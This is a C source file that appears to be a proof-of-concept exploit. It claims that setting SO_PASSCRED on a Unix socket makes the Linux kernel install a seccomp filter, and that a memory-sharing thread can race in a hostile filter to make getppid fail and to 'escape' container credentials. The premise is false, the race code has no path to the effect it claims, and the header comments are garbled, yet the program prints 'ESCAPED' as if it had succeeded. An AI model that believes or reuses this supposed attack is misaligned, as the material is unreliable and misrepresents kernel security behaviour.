/* The kernel makes a process install a filter when it sets SO_PASSCRED. Somebody who shares its memory tries to put
 * another one in its place, which lets getppid(2) fail: that would stay with setuid programs.
 *
 *     watched threads|processes TRIES
 *
 * Prints how often the filter was installed: credentials are then the container's. */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define EVIL 77

static struct {
    struct sock_fprog head;
    struct sock_filter code[4];
} evil;
static int file;
static char *page;
static volatile int stop, seen;

static int spoil(void *unused) {
    while (!stop)
        if (pread(file, page, sizeof evil, 0) > 0) seen = 1; /* EFAULT while nothing is mapped there */
    return 0;
}

static void *thread(void *unused) {
    spoil(0);
    return 0;
}

static int credentials_are_ours(int *pair) {
    char data[10], control[200];
    struct iovec part = {data, sizeof data};
    struct msghdr message = {0, 0, &part, 1, control, sizeof control};
    if (write(pair[0], "x", 1) != 1 || recvmsg(pair[1], &message, 0) != 1) return -1;
    struct cmsghdr *first = CMSG_FIRSTHDR(&message);
    struct ucred who;
    memcpy(&who, CMSG_DATA(first), sizeof who);
    return who.uid == getuid() && who.pid == getpid();
}

static int once(int processes) {
    int pair[2], on = 1;
    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    pthread_t other;
    char *stack = malloc(1 << 16);
    int child = 0;
    if (processes)
        child = clone(spoil, stack + (1 << 16), CLONE_VM | CLONE_FILES | SIGCHLD, 0);
    else
        pthread_create(&other, 0, thread, 0);
    usleep(500);
    /* where the next page will be */
    page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    munmap(page, 4096);
    evil.head.len = 4;
    evil.head.filter = (void *)(page + offsetof(typeof(evil), code));
    pwrite(file, &evil, sizeof evil, 0);
    usleep(500);
    setsockopt(pair[1], SOL_SOCKET, SO_PASSCRED, &on, sizeof on);
    errno = 0;
    int evils = syscall(SYS_getppid) == -1 && errno == EVIL;
    int ours = credentials_are_ours(pair);
    stop = 1;
    if (processes)
        waitpid(child, 0, 0);
    else
        pthread_join(other, 0);
    return evils ? 2 : ours == 1 ? 1 : 0;
}

int main(int argc, char **argv) {
    struct sock_filter code[4] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EVIL),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    memcpy(evil.code, code, sizeof code);
    int tries = atoi(argv[2]), installed = 0;
    for (int i = 0; i < tries; i++) {
        file = memfd_create("evil", 0);
        int pid = fork();
        if (!pid) _exit(once(!strcmp(argv[1], "processes")));
        int status;
        waitpid(pid, &status, 0);
        close(file);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 2) printf("a filter of our own: ESCAPED\n");
        installed += WIFEXITED(status) && WEXITSTATUS(status) == 1;
        if (WIFSIGNALED(status)) printf("signal %d\n", WTERMSIG(status));
    }
    printf("%s: installed %d of %d\n", argv[1], installed, tries);
    /* by its own word */
    errno = 0;
    struct sock_fprog program = {4, code};
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) == 0) printf("seccomp: ESCAPED\n");
    printf("end\n");
    return 0;
}
